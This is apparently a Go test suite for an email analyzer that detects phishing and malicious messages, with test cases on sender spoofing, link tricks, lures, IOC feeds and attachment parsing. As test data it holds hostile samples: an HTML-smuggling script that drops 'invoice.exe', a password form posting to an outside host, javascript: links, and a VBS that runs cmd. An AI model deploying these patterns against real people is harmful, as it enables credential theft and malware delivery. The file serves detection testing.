package mail

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ward-health/ward/internal/intel"

	"github.com/ward-health/ward/internal/mail/finding"
)

func newTestAnalyzer(t testing.TB, cfg Config) *Analyzer {
	t.Helper()
	a, err := NewAnalyzer(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

// msg builds a message from header lines and a body, with CRLF endings.
func msg(headers []string, body string) []byte {
	s := strings.Join(headers, "\r\n") + "\r\n\r\n" + strings.ReplaceAll(body, "\n", "\r\n")
	return []byte(s)
}

func signals(r Result) []string {
	var out []string
	for _, f := range r.Reasons {
		out = append(out, f.Signal)
	}
	return out
}

func hasSignal(r Result, s string) bool { return slices.Contains(signals(r), s) }

func TestAnalyzeSignals(t *testing.T) {
	a := newTestAnalyzer(t, Config{OwnDomains: []string{"mijnziekenhuis.nl"}, OwnNames: []string{"Mijn Ziekenhuis"}})
	std := []string{"Message-ID: <1@x>", "To: staff@mijnziekenhuis.nl", "Subject: hello"}
	tests := []struct {
		name    string
		headers []string
		body    string
		want    []string // signals that must be present
		notWant []string
		verdict Verdict
	}{
		{
			name:    "plain clean mail",
			headers: []string{"From: Jan <jan@example.org>"},
			body:    "See you tomorrow at https://www.example.org/agenda.\n",
			verdict: Clean,
		},
		{
			name:    "address of another domain in the display name",
			headers: []string{`From: "ceo@mijnziekenhuis.nl" <x@mailer.example>`},
			body:    "hi",
			want:    []string{sigDisplayNameAddress},
		},
		{
			name:    "protected brand named by an outside freemail sender, with a lure",
			headers: []string{`From: "WHO COVID-19 Relief" <relief.who@gmail.com>`},
			body:    "Donate to the COVID-19 solidarity fund: https://bit.ly/3xyz\n",
			want:    []string{sigDisplayNameBrand, sigLinkShortener, sigLureCovid, sigLureDonation},
			verdict: Phishing,
		},
		{
			name:    "brand named by its own domain is fine",
			headers: []string{`From: "RIVM" <info@rivm.nl>`},
			body:    "Nieuwsbrief over vaccinatie: https://www.rivm.nl/vaccinatie\n",
			notWant: []string{sigDisplayNameBrand},
			verdict: Clean,
		},
		{
			name:    "own organisation named by an outsider",
			headers: []string{`From: "Mijn Ziekenhuis ICT" <ict@mz-helpdesk.com>`},
			body:    "hi",
			want:    []string{sigDisplayNameOwnOrg},
		},
		{
			name:    "look-alike sender domain",
			headers: []string{`From: RIVM <info@rivm-coronatest.nl>`},
			body:    "Maak een afspraak.",
			want:    []string{sigLookalikeSender},
			verdict: Phishing,
		},
		{
			name:    "newsletter links through its mailing service stay clean",
			headers: []string{`From: RIVM <nieuwsbrief@rivm.nl>`, `Content-Type: text/html`},
			body:    `<a href="https://rivm.us1.list-manage.com/track/click?u=1">https://www.rivm.nl/vaccinatie</a>`,
			notWant: []string{sigLinkTextMismatch},
			verdict: Clean,
		},
		{
			name:    "reply-to freemail",
			headers: []string{`From: Finance <finance@example.org>`, `Reply-To: finance.dept@gmail.com`},
			body:    "Please pay the attached invoice today.",
			want:    []string{sigReplyToFreemail},
		},
		{
			name:    "reply-to other domain",
			headers: []string{`From: Finance <finance@example.org>`, `Reply-To: <x@example.net>`},
			body:    "hi",
			want:    []string{sigReplyToDiffers},
			notWant: []string{sigReplyToFreemail},
		},
		{
			name:    "return-path look-alike",
			headers: []string{`From: x@example.org`, `Return-Path: <bounce@who-covid19-relief.com>`},
			body:    "hi",
			want:    []string{sigLookalikeReturnPath},
		},
		{
			name:    "link text shows the brand, target elsewhere",
			headers: []string{`From: x@example.org`, `Content-Type: text/html; charset=utf-8`},
			body:    `<p>Log in at <a href="http://login.example.ru/rivm">https://www.rivm.nl/login</a></p>`,
			want:    []string{sigLinkTextMismatch},
		},
		{
			name:    "IP host, user@host, data: and javascript: links",
			headers: []string{`From: x@example.org`, `Content-Type: text/html`},
			body: `<a href="http://192.0.2.7/x">a</a><a href="https://www.who.int@evil.example/">b</a>` +
				`<a href="data:text/html;base64,PGgxPmhpPC9oMT4=">c</a><a href="javascript:alert(1)">d</a>`,
			want: []string{sigLinkIP, sigLinkUserinfo, sigLinkDataURL, sigLinkJavascript},
		},
		{
			name:    "homograph link host",
			headers: []string{`From: x@example.org`},
			body:    "Go to http://xn--pypal-4ve.com/ now",
			want:    []string{sigLinkHomograph},
		},
		{
			name:    "mixed-script link host",
			headers: []string{`From: x@example.org`},
			body:    "Go to http://xn--paypal-gpf.com/ now", // paypalж.com
			want:    []string{sigLinkMixedScript},
		},
		{
			name:    "personalised link on free hosting",
			headers: []string{`From: x@example.org`},
			body:    "Open https://files-1.fra1.digitaloceanspaces.com/index.htm?username=staff@mijnziekenhuis.nl",
			want:    []string{sigLinkRecipient, sigLinkFreeHosting},
		},
		{
			name:    "password form in the message body",
			headers: []string{`From: IT <it@example.org>`, `Content-Type: text/html`},
			body:    `<form action="https://collect.example.net/p.php" method="post"><input name="u"><input type="password" name="p"></form>`,
			want:    []string{sigHTMLForm, sigHTMLExtForm},
			verdict: Phishing,
		},
		{
			name:    "HTML smuggling in the body",
			headers: []string{`From: x@example.org`, `Content-Type: text/html`},
			body: `<script>var b=atob("TVqQAAMAAAAEAAAA");var u=new Uint8Array(b.length);` +
				`var blob=new Blob([u]);var a=document.createElement("a");a.href=URL.createObjectURL(blob);a.download="invoice.exe";a.click();</script>`,
			want:    []string{sigHTMLSmuggling},
			verdict: Malicious,
		},
		{
			name:    "meta refresh and css url",
			headers: []string{`From: x@example.org`, `Content-Type: text/html`},
			body:    `<meta http-equiv="refresh" content="0; url=http://198.51.100.9/p"><div style="background:url('http://198.51.100.10/i.png')">x</div>`,
			want:    []string{sigHTMLMetaRefresh, sigLinkIP},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := a.Analyze(context.Background(), "t.eml", msg(append(append([]string{}, tt.headers...), std...), tt.body))
			for _, s := range tt.want {
				if !hasSignal(r, s) {
					t.Errorf("missing signal %s; got %v", s, signals(r))
				}
			}
			for _, s := range tt.notWant {
				if hasSignal(r, s) {
					t.Errorf("unexpected signal %s; got %v", s, r.Reasons)
				}
			}
			if tt.verdict != "" && r.Verdict != tt.verdict {
				t.Errorf("verdict %s (score %d), want %s; reasons %v", r.Verdict, r.Score, tt.verdict, r.Reasons)
			}
		})
	}
}

func TestRecipientOrganisation(t *testing.T) {
	a := newTestAnalyzer(t, Config{})
	r := a.Analyze(context.Background(), "m", msg([]string{
		`From: "Ziekenhuisnoord IT-servicedesk" <it@mailbox-upgrade.example>`, "To: jan@ziekenhuisnoord.nl", "Subject: quota"}, "Uw mailbox is vol."))
	if !hasSignal(r, sigDisplayNameOwnOrg) {
		t.Errorf("recipient's organisation in the display name not flagged: %v", r.Reasons)
	}
	r = a.Analyze(context.Background(), "m", msg([]string{
		`From: "Ziekenhuisnoord IT" <it@ziekenhuisnoord.nl>`, "To: jan@ziekenhuisnoord.nl", "Subject: quota"}, "x"))
	if hasSignal(r, sigDisplayNameOwnOrg) {
		t.Errorf("own colleague flagged: %v", r.Reasons)
	}
}

func TestAuthenticationResultsTrustedOnly(t *testing.T) {
	m := msg([]string{
		"Authentication-Results: mx.hospital.nl; dmarc=fail header.from=rivm.nl; spf=fail smtp.mailfrom=rivm.nl",
		"Authentication-Results: attacker.example; dmarc=pass header.from=rivm.nl",
		"From: RIVM <info@rivm.nl>", "Subject: x",
	}, "hi")
	trusting := newTestAnalyzer(t, Config{TrustedReceivers: []string{"mx.hospital.nl"}})
	r := trusting.Analyze(context.Background(), "m", m)
	if !hasSignal(r, sigAuthDMARCFail) || !hasSignal(r, sigAuthSPFFail) {
		t.Errorf("trusted receiver's failures not reported: %v", signals(r))
	}
	other := newTestAnalyzer(t, Config{TrustedReceivers: []string{"mx.other.nl"}})
	r = other.Analyze(context.Background(), "m", m)
	if hasSignal(r, sigAuthDMARCFail) || hasSignal(r, sigAuthSPFFail) {
		t.Errorf("untrusted Authentication-Results believed: %v", signals(r))
	}
}

func TestParsing(t *testing.T) {
	a := newTestAnalyzer(t, Config{})
	t.Run("encoded words and charsets", func(t *testing.T) {
		m := msg([]string{
			"From: =?ISO-8859-1?Q?Andr=E9?= <andre@example.org>",
			"Subject: =?UTF-8?B?Q29yb25hdmlydXMgdXBkYXRl?=",
			"Content-Type: text/plain; charset=iso-8859-1",
			"Content-Transfer-Encoding: quoted-printable",
		}, "Caf=E9 https://example.org/caf=E9\n")
		r := a.Analyze(context.Background(), "m", m)
		if r.Subject != "Coronavirus update" || r.From != "André <andre@example.org>" {
			t.Errorf("subject %q from %q", r.Subject, r.From)
		}
		if !slices.Contains(r.IOCs.URLs, "https://example.org/café") {
			t.Errorf("urls %v", r.IOCs.URLs)
		}
	})
	t.Run("mbox separator and a broken header line", func(t *testing.T) {
		raw := "From someone@example.org  Thu Sep 5 10:00:00 2002\nFrom: a@example.org\nthis is not a header\nSubject: still read\n\nbody\n"
		r := a.Analyze(context.Background(), "m", []byte(raw))
		if r.Subject != "still read" || r.From != "a@example.org" {
			t.Errorf("subject %q from %q errors %v", r.Subject, r.From, r.Errors)
		}
		if len(r.Errors) == 0 {
			t.Error("the broken header line is not recorded in errors")
		}
	})
	t.Run("forwarded message and attachment", func(t *testing.T) {
		inner := "From: evil@example.net\r\nSubject: inner\r\nContent-Type: text/plain\r\n\r\nsee http://203.0.113.5/login\r\n"
		m := msg([]string{"From: a@example.org", "Subject: fw", `Content-Type: multipart/mixed; boundary="b1"`},
			"--b1\nContent-Type: text/plain\n\nforwarding\n--b1\nContent-Type: message/rfc822\n\n"+inner+"\n--b1\n"+
				"Content-Type: application/octet-stream; name=\"x.bin\"\nContent-Transfer-Encoding: base64\n\n"+
				base64.StdEncoding.EncodeToString([]byte("hello"))+"\n--b1--\n")
		r := a.Analyze(context.Background(), "m", m)
		if !hasSignal(r, sigLinkIP) {
			t.Errorf("link in the forwarded message not seen: %v", signals(r))
		}
		if len(r.Attachments) != 1 || r.Attachments[0].Name != "x.bin" || r.Attachments[0].Size != 5 ||
			r.Attachments[0].SHA256 != "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824" {
			t.Errorf("attachments %+v", r.Attachments)
		}
		if !slices.Contains(r.IOCs.Hashes, "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824") {
			t.Errorf("hash not in iocs: %v", r.IOCs)
		}
	})
	t.Run("uuencoded attachment in a text body", func(t *testing.T) {
		// "Cat" uuencoded.
		m := msg([]string{"From: a@example.org"}, "text before\nbegin 644 cat.txt\n#0V%T\n`\nend\ntext after\n")
		r := a.Analyze(context.Background(), "m", m)
		if len(r.Attachments) != 1 || r.Attachments[0].Name != "cat.txt" || r.Attachments[0].Size != 3 {
			t.Errorf("attachments %+v", r.Attachments)
		}
	})
	t.Run("garbage is judged, not crashed on", func(t *testing.T) {
		r := a.Analyze(context.Background(), "m", []byte("\x00\x01\x02 no header at all http://192.0.2.1/x"))
		if r.Verdict == "" || len(r.Errors) == 0 {
			t.Errorf("result %+v", r)
		}
	})
}

func TestLimits(t *testing.T) {
	deep := func(n int) []byte {
		var b strings.Builder
		b.WriteString("From: a@example.org\r\nContent-Type: multipart/mixed; boundary=\"b0\"\r\n\r\n")
		for i := 0; i < n; i++ {
			fmt.Fprintf(&b, "--b%d\r\nContent-Type: multipart/mixed; boundary=\"b%d\"\r\n\r\n", i, i+1)
		}
		fmt.Fprintf(&b, "--b%d\r\nContent-Type: text/plain\r\n\r\nleaf\r\n", n)
		return []byte(b.String())
	}
	many := func(n int) []byte {
		var b strings.Builder
		b.WriteString("From: a@example.org\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n")
		for i := 0; i < n; i++ {
			b.WriteString("--b\r\nContent-Type: text/plain\r\n\r\npart\r\n")
		}
		b.WriteString("--b--\r\n")
		return []byte(b.String())
	}
	links := func(n int) []byte {
		var b strings.Builder
		b.WriteString("From: a@example.org\r\n\r\n")
		for i := 0; i < n; i++ {
			fmt.Fprintf(&b, "https://example.org/%d\r\n", i)
		}
		return []byte(b.String())
	}
	tests := []struct {
		name string
		lim  Limits
		raw  []byte
		want string
	}{
		{"nesting", Limits{MaxDepth: 5}, deep(20), "nesting deeper than 5"},
		{"parts", Limits{MaxParts: 10}, many(50), "more than 10 MIME parts"},
		{"size", Limits{MaxSize: 100}, many(10), "over the 100-byte limit"},
		{"decoded", Limits{MaxDecoded: 20}, many(10), "more than 20 bytes of decoded content"},
		{"links", Limits{MaxLinks: 10}, links(30), "more than 10 links"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := newTestAnalyzer(t, Config{Limits: tt.lim})
			r := a.Analyze(context.Background(), "m", tt.raw)
			if r.Verdict != Suspicious {
				t.Errorf("verdict %s, want suspicious", r.Verdict)
			}
			found := false
			for _, f := range r.Reasons {
				if f.Class == finding.Limit && strings.HasPrefix(f.Detail, "analysis limit reached: ") && strings.Contains(f.Detail, tt.want) {
					found = true
				}
			}
			if !found {
				t.Errorf("no limit reason containing %q: %v", tt.want, r.Reasons)
			}
		})
	}
	t.Run("no limit on a normal message", func(t *testing.T) {
		r := newTestAnalyzer(t, Config{}).Analyze(context.Background(), "m", many(20))
		if r.Verdict != Clean {
			t.Errorf("verdict %s: %v", r.Verdict, r.Reasons)
		}
	})
	t.Run("time limit", func(t *testing.T) {
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		r := newTestAnalyzer(t, Config{}).Analyze(ctx, "m", many(3))
		if r.Verdict != Suspicious {
			t.Errorf("an expired context gives %s: %v", r.Verdict, r.Reasons)
		}
	})
}

func TestNewAnalyzerErrors(t *testing.T) {
	for name, cfg := range map[string]Config{
		"negative limit":   {Limits: Limits{MaxParts: -1}},
		"empty trusted id": {TrustedReceivers: []string{" "}},
		"bad own domain":   {OwnDomains: []string{"not a domain"}},
	} {
		if _, err := NewAnalyzer(cfg); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
}

func TestIOCs(t *testing.T) {
	set, err := ReadIOCs("iocs.txt", strings.NewReader(`# known bad
http://evil.example/payload.php
bad-domain.example   # campaign 1
198.51.100.66
2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824
`))
	if err != nil {
		t.Fatal(err)
	}
	if set.Len() != 4 {
		t.Fatalf("Len %d", set.Len())
	}
	a := newTestAnalyzer(t, Config{IOCs: set})
	m := msg([]string{"From: a@example.org", `Content-Type: multipart/mixed; boundary="b"`},
		"--b\nContent-Type: text/plain\n\nhttp://EVIL.example/payload.php http://www.bad-domain.example/x http://198.51.100.66/\n"+
			"--b\nContent-Type: application/octet-stream; name=\"a.txt\"\n\nhello\n--b--\n")
	r := a.Analyze(context.Background(), "m", m)
	for _, s := range []string{sigIOCURL, sigIOCDomain, sigIOCIP, sigIOCHash} {
		if !hasSignal(r, s) {
			t.Errorf("missing %s: %v", s, signals(r))
		}
	}
	// A known malicious file makes the message malicious.
	if r.Verdict != Malicious {
		t.Errorf("verdict %s", r.Verdict)
	}
	if _, err := ReadIOCs("bad.txt", strings.NewReader("not an indicator!\n")); err == nil || !strings.Contains(err.Error(), "bad.txt:1") {
		t.Errorf("bad line: %v", err)
	}
}

func TestPasswordsAndLures(t *testing.T) {
	text := "Het wachtwoord: Covid2020! Le mot de passe : abc123. La contraseña: hola99 Passwort: Geheim1 password: infetto"
	got := passwords(text)
	for _, want := range []string{"Covid2020", "abc123", "hola99", "Geheim1", "infetto"} {
		if !slices.Contains(got, want) {
			t.Errorf("passwords(%q) = %v, missing %q", text, got, want)
		}
	}
	for lang, s := range map[string]string{
		"nl": "Maak een afspraak voor uw coronatest bij de GGD",
		"en": "COVID-19 vaccine appointment",
		"fr": "Votre rendez-vous pour la vaccination contre le coronavirus",
		"es": "Su cita previa para la vacuna del COVID",
		"de": "Ihr Impftermin: Corona-Impfung",
		"it": "Il suo appuntamento per il vaccino anti-covid",
	} {
		if len(lures(s)) < 2 {
			t.Errorf("%s: lures(%q) = %v", lang, s, lures(s))
		}
	}
	if l := lures("The quarterly report is attached."); len(l) != 0 {
		t.Errorf("lures in a plain sentence: %v", l)
	}
}

func TestUnwrap(t *testing.T) {
	tests := map[string]string{
		"https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example%2Flogin&data=x": "https://evil.example/login",
		"https://urldefense.proofpoint.com/v2/url?u=https-3A__evil.example_login-3Fa-3D1&d=x":           "https://evil.example/login?a=1",
		"https://urldefense.com/v3/__https://evil.example/login__;!!abc!def$":                           "https://evil.example/login",
		"https://urldefense.com/v3/__https://evil.example/a*b__;Iw!!abc$":                               "https://evil.example/a#b",
		"https://example.org/plain": "https://example.org/plain",
	}
	for in, want := range tests {
		if got := unwrap(in); got != want {
			t.Errorf("unwrap(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestZipAttachmentPassedOn(t *testing.T) {
	// The analyzer hands attachments to internal/mail/attach; here we
	// only check that the attachment and its hash reach the result.
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, _ := zw.Create("CORONAVIRUS_COVID-19.vbs")
	w.Write([]byte(`CreateObject("WScript.Shell").Run "cmd /c x.exe"`))
	zw.Close()
	m := msg([]string{"From: a@example.org", `Content-Type: multipart/mixed; boundary="b"`},
		"--b\nContent-Type: text/plain\n\nSee attached. Password: covid19\n--b\nContent-Type: application/zip; name=\"info.zip\"\nContent-Transfer-Encoding: base64\n\n"+
			base64.StdEncoding.EncodeToString(buf.Bytes())+"\n--b--\n")
	r := newTestAnalyzer(t, Config{}).Analyze(context.Background(), "m", m)
	if len(r.Attachments) != 1 || r.Attachments[0].Name != "info.zip" || len(r.IOCs.Hashes) != 1 {
		t.Errorf("attachments %+v iocs %+v", r.Attachments, r.IOCs)
	}
}

// TestCorpusRobustness runs the analyzer over the public test messages
// when present: no panic, every message gets a verdict.
func TestCorpusRobustness(t *testing.T) {
	root := filepath.Join("..", "..", "..", "shared", "data", "mail")
	if _, err := os.Stat(root); err != nil {
		t.Skip("no ../shared/data/mail")
	}
	a := newTestAnalyzer(t, Config{})
	for _, dir := range []string{"enmime_testdata", "eml_analyzer_fixtures", "rspamd_functional_messages"} {
		filepath.WalkDir(filepath.Join(root, dir), func(p string, d os.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return nil
			}
			raw, err := os.ReadFile(p)
			if err != nil {
				return nil
			}
			if r := a.Analyze(context.Background(), p, raw); r.Verdict.Rank() < 0 {
				t.Errorf("%s: verdict %q", p, r.Verdict)
			}
			return nil
		})
	}
}

// TestExampleMessages checks the verdicts of the hand-written examples in
// testdata/messages.
func TestExampleMessages(t *testing.T) {
	a := newTestAnalyzer(t, Config{})
	for file, want := range map[string]Verdict{
		"who-donation.eml":    Phishing,
		"ggd-zip.eml":         Phishing,
		"rivm-newsletter.eml": Clean,
	} {
		raw, err := os.ReadFile(filepath.Join("testdata", "messages", file))
		if err != nil {
			t.Fatal(err)
		}
		r := a.Analyze(context.Background(), file, raw)
		// The attachment may make it worse (malicious) once attach judges
		// the .vbs inside; the analyzer's own signals make it phishing.
		if r.Verdict != want && !(want == Phishing && r.Verdict == Malicious) {
			t.Errorf("%s: %s (score %d), want %s: %v", file, r.Verdict, r.Score, want, r.Reasons)
		}
	}
}

func TestSenderShapes(t *testing.T) {
	a := newTestAnalyzer(t, Config{})
	tests := []struct {
		name    string
		headers []string
		want    string
	}{
		{"free hosting sender", []string{"From: Bonus <noreply@promo-1234.firebaseapp.com>", "Subject: hi"}, sigSenderFreeHosting},
		{"self-sent", []string{"From: staff@hospital.nl", "To: staff@hospital.nl", "Subject: hi"}, sigFromRecipient},
		{"recipient in subject", []string{"From: x@example.org", "To: jan.jansen@hospital.nl", "Subject: jan.jansen@hospital.nl, your parcel"}, sigSubjectRecipient},
		{"invisible characters", []string{"From: \"Mi\u200bcro\u200bsoft\" <a@example.org>", "Subject: hi"}, sigObfuscatedText},
		{"brand behind invisible characters", []string{"From: \"Mi\u200bcro\u200bsoft Support\" <a@example.org>", "Subject: hi"}, sigDisplayNameBrand},
		{"mixed-script name", []string{"From: \"L\u0435dger\" <a@example.org>", "Subject: hi"}, sigDisplayNameMixedScript},
		{"two senders", []string{"From: a@example.org, b@example.net", "Subject: hi"}, sigFromMalformed},
		{"freemail service desk", []string{"From: \"Account Support Team\" <helpdesk.mail@gmail.com>", "Subject: hi"}, sigFreemailRole},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := a.Analyze(context.Background(), "m", msg(tt.headers, "hello"))
			if !hasSignal(r, tt.want) {
				t.Errorf("missing %s: %v", tt.want, r.Reasons)
			}
		})
	}
	// A broken base64 padding in an encoded word is still decoded.
	r := a.Analyze(context.Background(), "m", msg([]string{"From: a@example.org", "Subject: =?UTF-8?B?TmV3IExvZ2lu==?="}, "x"))
	if r.Subject != "New Login" {
		t.Errorf("subject %q", r.Subject)
	}
}

func TestTextURLs(t *testing.T) {
	got := textURLs("see http://x.org/1, www.y.org and xwww.not.org or https://q.org/2. (HTTP://R.ORG/3)", 10)
	want := []string{"http://x.org/1", "www.y.org", "https://q.org/2", "HTTP://R.ORG/3"}
	if !slices.Equal(got, want) {
		t.Errorf("textURLs = %q, want %q", got, want)
	}
	if got := textURLs(strings.Repeat("http://example.org/a ", 50), 7); len(got) != 7 {
		t.Errorf("max 7: got %d", len(got))
	}
}

func TestHTMLLongToken(t *testing.T) {
	body := `<p title="` + strings.Repeat("x", 2<<20) + `">hi</p><form><input type=password></form>`
	r := newTestAnalyzer(t, Config{}).Analyze(context.Background(), "m", msg([]string{"From: a@example.org", "Content-Type: text/html"}, body))
	if r.Verdict == Clean {
		t.Errorf("a huge token hides the rest of the HTML and the message is clean: %v", r.Reasons)
	}
}

func TestHomographSender(t *testing.T) {
	a := newTestAnalyzer(t, Config{})
	r := a.Analyze(context.Background(), "m", msg([]string{"From: Robinhood <support@xn--robnhood-e2a.com>", "Subject: order"}, "x"))
	if !hasSignal(r, sigSenderHomograph) {
		t.Errorf("robınhood.com not flagged: %v", r.Reasons)
	}
	r = a.Analyze(context.Background(), "m", msg([]string{"From: FedEx <track@deliver-fedex.com>", "Subject: parcel"}, "x"))
	if !hasSignal(r, sigSenderBrandWord) {
		t.Errorf("deliver-fedex.com not flagged: %v", r.Reasons)
	}
	r = a.Analyze(context.Background(), "m", msg([]string{"From: FedEx <track@fedex.com>", "Subject: parcel"}, "x"))
	if hasSignal(r, sigSenderBrandWord) || hasSignal(r, sigDisplayNameBrand) {
		t.Errorf("fedex.com itself flagged: %v", r.Reasons)
	}
}

// tnefAttr encodes one TNEF attribute.
func tnefAttr(level byte, id uint32, val []byte) []byte {
	b := []byte{level}
	b = binary.LittleEndian.AppendUint32(b, id)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(val)))
	b = append(b, val...)
	var sum uint16
	for _, c := range val {
		sum += uint16(c)
	}
	return binary.LittleEndian.AppendUint16(b, sum)
}

func TestTNEF(t *testing.T) {
	stream := binary.LittleEndian.AppendUint32(nil, tnefSignature)
	stream = append(stream, 0x01, 0x00)
	stream = append(stream, tnefAttr(1, 0x00089006, []byte{1, 0, 0, 0})...)
	stream = append(stream, tnefAttr(2, attAttachRendData, make([]byte, 14))...)
	stream = append(stream, tnefAttr(2, attAttachTitle, []byte("CORONA.vbs\x00"))...)
	stream = append(stream, tnefAttr(2, attAttachData, []byte("MsgBox 1"))...)
	stream = append(stream, tnefAttr(2, attAttachRendData, make([]byte, 14))...)
	stream = append(stream, tnefAttr(2, attAttachTitle, []byte("b.txt\x00"))...)
	stream = append(stream, tnefAttr(2, attAttachData, []byte("hi"))...)
	files, ok := tnefFiles(stream, 10)
	if !ok || len(files) != 2 || files[0].name != "CORONA.vbs" || string(files[0].data) != "MsgBox 1" || files[1].name != "b.txt" {
		t.Fatalf("tnefFiles = %+v, %v", files, ok)
	}
	// Cut inside the last attribute: the second file keeps its name only.
	if files, ok := tnefFiles(stream[:len(stream)-5], 10); ok || len(files) != 2 || len(files[1].data) != 0 {
		t.Errorf("truncated stream: %+v, %v", files, ok)
	}
	if files, _ := tnefFiles(stream, 1); len(files) != 1 {
		t.Errorf("max 1: %d files", len(files))
	}
	m := msg([]string{"From: a@example.org", `Content-Type: multipart/mixed; boundary="b"`},
		"--b\nContent-Type: text/plain\n\nsee attached\n--b\nContent-Type: application/ms-tnef; name=\"winmail.dat\"\nContent-Transfer-Encoding: base64\n\n"+
			base64.StdEncoding.EncodeToString(stream)+"\n--b--\n")
	r := newTestAnalyzer(t, Config{}).Analyze(context.Background(), "m", m)
	var names []string
	for _, at := range r.Attachments {
		names = append(names, at.Name)
	}
	if !slices.Equal(names, []string{"winmail.dat", "winmail.dat/CORONA.vbs", "winmail.dat/b.txt"}) {
		t.Errorf("attachments %v", names)
	}
}

// TestLoadIOCsFeeds reads indicators from the sharing formats: a STIX
// bundle, a MISP feed directory and a MISP event, as ward feed export and
// others write them; revoked ones are left out. WithIOCs swaps the set.
func TestLoadIOCsFeeds(t *testing.T) {
	now := time.Now()
	inds := []intel.Indicator{
		{Type: intel.TypeDomain, Value: "bad-domain.example", TLP: intel.TLPGreen},
		{Type: intel.TypeURL, Value: "http://evil.example/payload.php", TLP: intel.TLPGreen},
		{Type: intel.TypeSHA256, Value: "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824", TLP: intel.TLPGreen},
		{Type: intel.TypeDomain, Value: "withdrawn.example", TLP: intel.TLPGreen, Revoked: true},
	}
	dir := t.TempDir()
	var b bytes.Buffer
	if err := intel.WriteSTIX(&b, inds, intel.STIXOptions{Now: now}); err != nil {
		t.Fatal(err)
	}
	bundle := filepath.Join(dir, "bundle.json")
	os.WriteFile(bundle, b.Bytes(), 0o644)
	events := intel.MISPEvents(inds[:3], intel.MISPOptions{})
	feed := filepath.Join(dir, "misp")
	if err := intel.WriteMISPFeed(feed, events); err != nil {
		t.Fatal(err)
	}
	event := filepath.Join(feed, events[0].UUID+".json")
	m := msg([]string{"From: a@example.org", `Content-Type: multipart/mixed; boundary="b"`},
		"--b\nContent-Type: text/plain\n\nhttp://evil.example/payload.php http://www.bad-domain.example/x http://withdrawn.example/\n"+
			"--b\nContent-Type: application/octet-stream; name=\"a.txt\"\n\nhello\n--b--\n")
	base := newTestAnalyzer(t, Config{})
	for _, path := range []string{bundle, feed, event} {
		set, err := LoadIOCs(path)
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		if set.Len() != 3 {
			t.Errorf("%s: %d indicators, want 3 (the revoked one left out)", path, set.Len())
		}
		r := base.WithIOCs(set).Analyze(context.Background(), "m", m)
		for _, s := range []string{sigIOCURL, sigIOCDomain, sigIOCHash} {
			if !hasSignal(r, s) {
				t.Errorf("%s: missing %s: %v", path, s, signals(r))
			}
		}
	}
	if r := base.Analyze(context.Background(), "m", m); hasSignal(r, sigIOCDomain) {
		t.Errorf("WithIOCs changed the Analyzer it was called on")
	}
	bad := filepath.Join(dir, "bad.json")
	os.WriteFile(bad, []byte(`{"type": "not-a-bundle"}`), 0o644)
	if _, err := LoadIOCs(bad); err == nil || !strings.Contains(err.Error(), "STIX 2.1 bundle or a MISP event") {
		t.Errorf("a JSON file of neither format: %v", err)
	}
}
